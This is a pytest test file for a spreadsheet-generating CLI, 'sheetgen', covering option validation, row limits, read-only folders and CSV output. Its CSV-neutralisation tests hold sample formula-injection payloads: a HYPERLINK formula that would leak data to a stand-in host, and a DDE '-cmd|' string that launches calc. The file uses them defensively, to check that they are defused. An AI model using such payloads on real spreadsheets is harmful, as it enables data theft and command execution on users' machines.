"""Bad options and bad output, answered in one line: --prefix, row limits, --rtol, --gpu "",
presets that clash, read-only folders, interrupts, and `read`'s JSON and CSV."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner
from helpers import one_line_error, run
from test_reliability_writes import plan_workbook

import sheetgen.writers.xlsx
from sheetgen.assemble import XLSX_MAX_ROWS, BuildConfig
from sheetgen.cli import cli
from sheetgen.cli.checking import neutralise, neutralised
from sheetgen.errors import InputError
from sheetgen.inputs.shapes import Shape

A100_BF16_PEAK = 312e12  # NVIDIA A100 datasheet: 312 TFLOP/s dense bf16
A100_HBM = 1.555e12  # NVIDIA A100 40GB SXM datasheet: 1,555 GB/s


def builtin_block(name: str = "A100 40GB SXM") -> str:
    """One [[gpu]] table of the shipped presets, as TOML text."""
    from importlib import resources

    text = resources.files("sheetgen.templates").joinpath("gpus.toml").read_text("utf-8")
    block = next(b for b in text.split("[[gpu]]")[1:] if f'name = "{name}"' in b)
    return "[[gpu]]" + block.split("\ndefault")[0]


# --- --prefix: Excel's sheet-name rules ---------------------------------------------------

@pytest.mark.parametrize(("prefix", "needles"), [
    ("[x] ", ["--prefix", "cannot contain [ ]"]),
    ("a/b", ["cannot contain /"]),
    ("what?", ["cannot contain ?"]),
    ("'q", ["apostrophe"]),
    ("tab\there", ["control characters"]),
    ("x" * 21, ["21 characters", "at most 20", "'Parallelism'", "31"]),
    ("x" * 30, ["30 characters", "at most 20"]),
])
def test_bad_prefix_is_one_error_line(tmp_path: Path, prefix: str, needles: list[str]):
    theirs = plan_workbook(tmp_path / "plan.xlsx")
    one_line_error(run("fill", str(theirs), "--prefix", prefix), *needles)
    assert sorted(os.listdir(tmp_path)) == ["plan.xlsx"]


def test_longest_allowed_prefix_gives_31_character_sheet_names(tmp_path: Path):
    theirs = plan_workbook(tmp_path / "plan.xlsx")
    result = run("fill", str(theirs), "--prefix", "p" * 20)
    assert result.exit_code == 0, result.output
    wb = openpyxl.load_workbook(tmp_path / "plan.sheetgen.xlsx", read_only=True)
    names = wb.sheetnames  # the workbook part alone, not every cell
    wb.close()
    assert max(len(n) for n in names) == 31 and "p" * 20 + "Parallelism" in names


# --- row limits, refused before any work ---------------------------------------------------

def test_spare_rows_past_the_xlsx_row_limit_is_refused_up_front(tmp_path: Path):
    out = tmp_path / "o.xlsx"
    line = one_line_error(run("build", str(out), "--spare-rows", "2000000"),
                 "--spare-rows 2,000,000", "1,048,576", "Matmul")
    assert "2,000,017 rows" in line  # 12 default shapes + 2,000,000 + the 5 rows above
    assert not out.exists()


def test_row_limit_boundary_is_exact():
    header = 5  # the Matmul table's first data row is sheet row 6
    fits = BuildConfig(shapes=[Shape(1, 1, 1)] * 10, spare_rows=XLSX_MAX_ROWS - header - 10)
    fits.resolved()  # exactly the last row of the sheet: accepted
    over = BuildConfig(shapes=[Shape(1, 1, 1)] * 10, spare_rows=XLSX_MAX_ROWS - header - 9)
    with pytest.raises(InputError, match="1,048,577 rows"):
        over.resolved()


def test_many_shape_rows_and_spare_rows_together_are_refused(tmp_path: Path):
    with pytest.raises(InputError, match="1,000,000 shape rows and --spare-rows 100,000"):
        BuildConfig(shapes=[Shape(8, 8, 8)] * 1_000_000, spare_rows=100_000).resolved()


# --- check --rtol, --gpu "" -------------------------------------------------------------------

@pytest.fixture(scope="module")
def built(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("built") / "r.xlsx"
    assert run("build", str(out), "--spare-rows", "0").exit_code == 0
    return out


@pytest.mark.parametrize("rtol", ["-1", "nan", "inf", "1", "-0.5"])
def test_bad_rtol_is_one_error_line(built: Path, rtol: str):
    one_line_error(run("check", str(built), "--rtol", rtol), "--rtol", "from 0")


def test_rtol_zero_and_small_are_accepted(built: Path):
    assert run("check", str(built), "--rtol", "1e-6").exit_code == 0
    assert run("check", str(built), "--rtol", "0").exit_code in (0, 1)  # exact: may differ


@pytest.mark.parametrize("command", [
    ["build", "{d}/o.xlsx"], ["show"], ["plot", "{d}/o.png"], ["check", "{d}/hand.xlsx"],
    ["fill", "{d}/plan.xlsx"],
])
def test_empty_gpu_is_refused(tmp_path: Path, command: list[str]):
    plan_workbook(tmp_path / "plan.xlsx")
    plan_workbook(tmp_path / "hand.xlsx")
    args = [a.format(d=tmp_path) for a in command]
    one_line_error(run(*args, "--gpu", ""), "--gpu", "empty")
    one_line_error(run(*args, "--gpu", "  "), "--gpu", "empty")


# --- presets --------------------------------------------------------------------------------

@pytest.mark.parametrize("second", ["My GPU", "  my   gpu "])
def test_duplicate_preset_in_one_file_is_an_error(tmp_path: Path, second: str):
    block = builtin_block().replace('name = "A100 40GB SXM"', 'name = "My GPU"')
    path = tmp_path / "mine.toml"
    path.write_text(block + "\n" + block.replace('name = "My GPU"', f'name = "{second}"'))
    one_line_error(run("gpus", "--gpu-file", str(path)), "mine.toml", "defined twice")


def test_shadowing_a_builtin_is_announced_once_and_marked(tmp_path: Path):
    path = tmp_path / "mine.toml"
    path.write_text(builtin_block().replace("hbm_bandwidth = 1.555e12", "hbm_bandwidth = 2e12"))
    done = run("gpus", "--gpu-file", str(path))
    assert done.exit_code == 0, done.stderr
    assert done.stderr.splitlines() == [
        f"note: {path} replaces the built-in preset 'A100 40GB SXM'"]
    row = next(ln for ln in done.stdout.splitlines() if ln.startswith("A100 40GB SXM"))
    assert "++" in row  # the table row is marked; the line below it says why
    header = next(ln for ln in done.stdout.splitlines() if ln.startswith("A100 40GB SXM")
                  and " from " in ln)
    assert "replaces the built-in preset" in header and str(path) in header
    plain = run("gpus")
    assert plain.stderr == "" and "replaces" not in plain.stdout
    # and the user's figure is the one used
    shown = run("show", "--json", "--gpu-file", str(path))
    assert json.loads(shown.stdout)["gpu"]["hbm_bw"] == 2e12
    assert shown.stderr.count("note: ") == 1


# --- read-only folders ----------------------------------------------------------------------

class _ReadOnly:
    f_flag = os.ST_RDONLY


def test_read_only_file_system_is_named_as_such(tmp_path: Path, monkeypatch):
    monkeypatch.setattr(os, "access", lambda p, mode, **k: not mode & os.W_OK)
    monkeypatch.setattr(os, "statvfs", lambda p: _ReadOnly())
    one_line_error(run("build", str(tmp_path / "o.xlsx")), "read-only file system")
    theirs = plan_workbook(tmp_path / "plan.xlsx")
    one_line_error(run("fill", str(theirs), "--in-place"), "read-only file system")


def test_permission_denied_stays_permission_denied(tmp_path: Path, monkeypatch):
    monkeypatch.setattr(os, "access", lambda p, mode, **k: not mode & os.W_OK)
    one_line_error(run("build", str(tmp_path / "o.xlsx")), "permission denied")


def test_real_read_only_mount(tmp_path: Path):
    from test_reliability_writes import tmpfs

    with tmpfs(tmp_path / "ro") as ro:
        if subprocess.run(["mount", "-o", "remount,ro", str(ro)]).returncode != 0:
            pytest.skip("cannot remount read-only")
        one_line_error(run("build", str(ro / "o.xlsx")), "read-only file system")


# --- interrupts (the real signals are in test_reliability_writes) ---------------------------

def test_ctrl_c_is_one_error_line_and_status_130(tmp_path: Path, monkeypatch):
    def interrupt(*a, **k):
        raise KeyboardInterrupt

    monkeypatch.setattr(sheetgen.writers.xlsx, "_write_workbook", interrupt)
    result = CliRunner().invoke(cli, ["build", str(tmp_path / "o.xlsx")])
    assert result.exit_code == 130
    assert result.output.strip() == "Error: interrupted"
    assert os.listdir(tmp_path) == []


# --- read: precision, whole numbers, CSV formula neutralisation ------------------------------

@pytest.fixture(scope="module")
def tiny(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("tiny")
    (folder / "s.csv").write_text("m,k,n\n1,1,1\n")
    out = folder / "tiny.xlsx"
    assert run("build", str(out), "--shapes", str(folder / "s.csv"),
               "--spare-rows", "0").exit_code == 0
    return out


def test_read_json_keeps_full_precision_and_whole_dimensions(tiny: Path):
    result = run("read", str(tiny), "--format", "json")
    assert result.exit_code == 0, result.output
    (row,) = json.loads(result.output)
    # 1x1x1 in bf16: 2 FLOPs and 2*(1+1+1) = 6 bytes; memory-bound at 1,555 GB/s
    assert row["memory_time"] == pytest.approx(6 / A100_HBM, rel=1e-12)  # 3.86e-12 s, not 0.0
    assert row["compute_time"] == pytest.approx(2 / A100_BF16_PEAK, rel=1e-12)
    assert row["predicted_time"] == pytest.approx(6 / A100_HBM, rel=1e-12)
    assert row["predicted_time"] > 0
    assert [type(row[d]) for d in "mkn"] == [int, int, int] and row["m"] == 1


def test_read_csv_prints_whole_dimensions(tiny: Path):
    rows = list(csv.DictReader(io.StringIO(run("read", str(tiny)).output)))
    assert (rows[0]["m"], rows[0]["k"], rows[0]["n"]) == ("1", "1", "1")
    assert float(rows[0]["memory_time"]) == pytest.approx(6 / A100_HBM, rel=1e-12)


def test_read_csv_neutralises_text_a_spreadsheet_would_run(tmp_path: Path):
    evil = '=HYPERLINK("http://example.invalid/?leak","click")'
    path = tmp_path / "evil.toml"
    toml_name = evil.replace('"', '\\"')
    path.write_text(builtin_block().replace('name = "A100 40GB SXM"', f'name = "{toml_name}"'))
    out = tmp_path / "e.xlsx"  # no spare rows: only the Inputs sheet is read
    assert run("build", str(out), "--gpu-file", str(path), "--gpu", evil,
               "--spare-rows", "0").exit_code == 0
    rows = {r["name"]: r["value"] for r in
            csv.DictReader(io.StringIO(run("read", str(out), "--sheet", "Inputs").output))}
    assert rows["gpu_name"] == "'" + evil  # text, not a live formula
    assert float(rows["peak_flops"]) == A100_BF16_PEAK  # numbers stay numbers
    as_json = json.loads(run("read", str(out), "--sheet", "Inputs", "--format", "json").output)
    assert {r["name"]: r["value"] for r in as_json}["gpu_name"] == evil  # JSON is untouched


@pytest.mark.parametrize("text", ["=1+1", "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx", "\0x",
                                  "-cmd|' /C calc'!A0"])
def test_neutralise_prefixes_formula_starts(text: str):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["ok", "-5", "-1.5e-3", "+7", "", -5.0, -3, 2.5, None])
def test_neutralise_leaves_numbers_and_plain_text(value):
    assert neutralise(value) == value


def test_neutralised_frame_keeps_negative_numbers_numeric():
    frame = pd.DataFrame({"x": [-1.5, 2.0], "label": ["=evil()", "fine"]})
    out = neutralised(frame)
    assert out["x"].tolist() == [-1.5, 2.0] and out["x"].dtype == float
    assert out["label"].tolist() == ["'=evil()", "fine"]
    assert out.to_csv(index=False).splitlines()[1] == "-1.5,'=evil()"


def test_the_python_api_refuses_a_bad_rtol_as_the_cli_does(tmp_path):
    """check_workbook and grade_workbook validate rtol themselves (not only the CLI)."""
    import sheetgen.verify.check
    import sheetgen.verify.grade
    from sheetgen.errors import InputError

    for bad in (-1.0, float("nan"), float("inf"), 1.0):
        with pytest.raises(InputError, match="not a relative tolerance"):
            sheetgen.verify.check.check_workbook(tmp_path / "absent.xlsx", rtol=bad)
        with pytest.raises(InputError, match="not a relative tolerance"):
            sheetgen.verify.grade.grade_workbook(tmp_path / "absent.xlsx", rtol=bad)
